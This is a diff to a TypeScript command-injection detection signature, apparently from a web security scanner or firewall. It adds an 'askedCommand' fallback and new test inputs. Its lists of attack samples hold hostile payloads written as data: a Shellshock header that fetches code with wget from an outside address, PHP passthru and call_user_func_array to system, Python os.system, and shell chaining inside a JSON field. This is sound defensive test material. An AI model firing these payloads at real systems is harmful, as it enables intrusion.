@@ -1,5 +1,6 @@
 import type { Reading } from '../readings/reading.ts';
 import { argumentInjection } from '../shell/argument-injection.ts';
+import { askedCommand } from '../shell/asked-command.ts';
 import { findCommand } from '../shell/find-commands.ts';
 import type { Finding, Signature } from '../signature.ts';
 
@@ -35,6 +36,8 @@ export const commandInjection: Signature = {
       'ping%PROGRAMFILES:~10,-5%127.0.0.1',
       "';passthru('ls -la');//",
       "__import__('os').system('id')",
+      { query: 'cmd=whoami' },
+      { query: 'function=call_user_func_array&vars[0]=system' },
       { headers: { 'user-agent': '() { :; }; /usr/bin/wget http://203.0.113.9/a' } },
       { method: 'POST', contentType: 'application/json', body: '{"host":{"name":"10.0.0.1; uname -a"}}' },
     ],
@@ -57,6 +60,8 @@ export const commandInjection: Signature = {
       'C:\\Users\\Ann\\report (final).pdf',
       'il a dit : « oui » ; puis il est parti',
       './dist/index.js',
+      { body: '{"answer":"ls -l | sort -n"}', contentType: 'application/json' },
+      { query: 'cmd=status&action=exec&command=list' },
       { headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' } },
     ],
   },
@@ -64,6 +69,6 @@ export const commandInjection: Signature = {
   match(reading: Reading): Finding | null {
     const found = findCommand(reading);
     if (found !== null || reading.leaf.isPiece === true || reading.leaf.kind === 'path') return found;
-    return argumentInjection(reading.lower);
+    return argumentInjection(reading.lower) ?? askedCommand(reading);
   },
 };
